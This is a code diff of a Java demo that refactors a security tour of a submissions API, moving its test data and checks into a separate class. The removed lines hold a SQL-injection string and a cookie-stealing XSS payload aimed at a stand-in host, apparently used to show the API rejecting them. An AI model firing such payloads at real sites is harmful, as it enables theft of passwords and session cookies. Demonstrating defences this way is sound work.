@@ -11,7 +11,6 @@ import java.time.Duration;
 import java.util.List;
 import java.util.Map;
 import java.util.Optional;
-import java.util.UUID;
 
 /** The tour: an honest client, a clumsy one, a hostile one, and what the security team sees. */
 public final class Demo implements AutoCloseable {
@@ -21,35 +20,17 @@ public final class Demo implements AutoCloseable {
   /** More than the template's threshold for one source. */
   private static final int ATTACKS = 8;
 
-  private static final String HONEST =
-      """
-      {"title": "O'Brien's roof leaks", "description": "Select a plumber from the list; a < b & c.",
-       "category": "bug", "contactEmail": "ann@example.com", "tags": ["roof"]}
-      """;
-  private static final String INVALID =
-      """
-      {"title": "", "description": "x", "category": "weather", "contactEmail": "nobody", "id": "1"}
-      """;
-  private static final String HOSTILE =
-      """
-      {"title": "Hello", "description": "' UNION SELECT password FROM users WHERE '1'='1' --",
-       "category": "bug", "contactEmail": "ann@example.com"}
-      """;
-  private static final String SCRIPT =
-      """
-      {"title": "<script>fetch('//evil.example/'+document.cookie)</script>", "description": "Hi",
-       "category": "bug", "contactEmail": "ann@example.com"}
-      """;
-
   private final Instance instance;
   private final Report report;
   private final ApiClient api;
+  private final Tour tour;
   private final Subscriber subscriber;
 
   private Demo(Instance instance, Report report, Subscriber subscriber) {
     this.instance = instance;
     this.report = report;
     this.api = new ApiClient(instance.baseUrl());
+    this.tour = new Tour(api, report);
     this.subscriber = subscriber;
   }
 
@@ -62,17 +43,17 @@ public final class Demo implements AutoCloseable {
       throws IOException, InterruptedException, SignInException {
     try (Subscriber subscriber = Subscriber.to(instance);
         Demo demo = new Demo(instance, report, subscriber)) {
-      demo.tour();
+      demo.run();
     }
   }
 
-  private void tour() throws IOException, InterruptedException, SignInException {
+  private void run() throws IOException, InterruptedException, SignInException {
     report.chapter("An honest client");
     DemoUser ann = signIn("ann", "rampart/submissions.read", "rampart/submissions.write");
     String id = honest(ann);
     report.chapter("Refused, and by which gate");
     clumsy(ann, id);
-    hostile(ann);
+    tour.hostile(ann, ATTACKS);
     report.chapter("A reviewer decides");
     review(ann, id);
     report.chapter("What the security team sees");
@@ -87,69 +68,27 @@ public final class Demo implements AutoCloseable {
   }
 
   private String honest(DemoUser ann) throws IOException, InterruptedException {
-    String key = UUID.randomUUID().toString();
-    Answer created = ann.submit(key, HONEST);
-    String id = created.body().path("id").asText();
-    expect("submit", created, 201, "", !id.isEmpty());
-    Answer again = ann.submit(key, HONEST);
-    expect(
-        "submit again with the same key: the first answer",
-        again,
-        201,
-        "",
-        again.body().equals(created.body()));
-    Answer read = ann.get("/v1/submissions/" + id);
-    expect(
-        "read it back, text unchanged",
-        read,
-        200,
-        "",
-        read.body().path("title").asText().equals("O'Brien's roof leaks"));
-    Answer list = ann.get("/v1/submissions");
-    expect("list the own ones", list, 200, "", list.body().toString().contains(id));
+    String id = tour.honest(ann);
     awaitEvent("its event on the bus: SubmissionReceived", "SubmissionReceived", id);
     return id;
   }
 
   private void clumsy(DemoUser ann, String id)
       throws IOException, InterruptedException, SignInException {
-    Answer nobody = api.send("GET", "/v1/submissions", Map.of("x-api-key", ann.apiKey()), "");
-    expect("without a token", nobody, 401, "token", true);
-    Answer noKey =
-        api.send("GET", "/v1/submissions", Map.of("Authorization", "Bearer " + ann.token()), "");
-    expect("without an API key", noKey, 403, "plan", true);
-    expect("a path that does not exist", ann.get("/v1/secrets"), 404, "edge", true);
-    Answer invalid = ann.submit(UUID.randomUUID().toString(), INVALID);
-    int faults = invalid.body().path("errors").size();
-    expect(
-        "an invalid submission: " + faults + " faults at once", invalid, 400, "input", faults > 2);
-    Answer missing = ann.submit(UUID.randomUUID().toString(), "{}");
-    expect("a body without what every submission has", missing, 400, "schema", true);
+    tour.clumsy(ann);
     DemoUser bob = signIn("bob", "rampart/submissions.read");
-    expect("another's submission", bob.get("/v1/submissions/" + id), 404, "domain", true);
-    Answer write = bob.submit(UUID.randomUUID().toString(), HONEST);
-    expect("writing with a token for reading", write, 403, "token", true);
-  }
-
-  private void hostile(DemoUser ann) throws IOException, InterruptedException {
-    for (int i = 0; i < ATTACKS; i++) {
-      boolean script = i % 2 == 1;
-      Answer refused = ann.submit(UUID.randomUUID().toString(), script ? SCRIPT : HOSTILE);
-      if (i < 2) {
-        String what = script ? "a script in the title" : "SQL in the description";
-        expect(what, refused, 422, "inspection", true);
-      }
-    }
+    tour.expect("another's submission", bob.get("/v1/submissions/" + id), 404, "domain", true);
+    tour.writeToRead(bob);
   }
 
   private void review(DemoUser ann, String id)
       throws IOException, InterruptedException, SignInException {
     String path = "/v1/submissions/" + id + "/review";
     String accept = "{\"decision\": \"accept\", \"reason\": \"A real leak.\"}";
-    expect("ann may not review", ann.post(path, Map.of(), accept), 403, "token", true);
+    tour.expect("ann may not review", ann.post(path, Map.of(), accept), 403, "token", true);
     DemoUser rita = signIn("rita", "rampart/submissions.review");
     Answer reviewed = rita.post(path, Map.of(), accept);
-    expect(
+    tour.expect(
         "rita accepts it",
         reviewed,
         200,
@@ -178,14 +117,6 @@ public final class Demo implements AutoCloseable {
 
   private static String type(JsonNode event) {
     return event.path("detail-type").asText();
-  }
-
-  private void expect(String name, Answer answer, int status, String gate, boolean more) {
-    boolean ok = answer.status() == status && answer.gate().equals(gate) && more;
-    report.step(name, ok, answer.status(), answer.gate());
-    if (!ok) {
-      report.remark("expected " + status + " " + gate + ", got: " + answer.body());
-    }
   }
 
   @Override
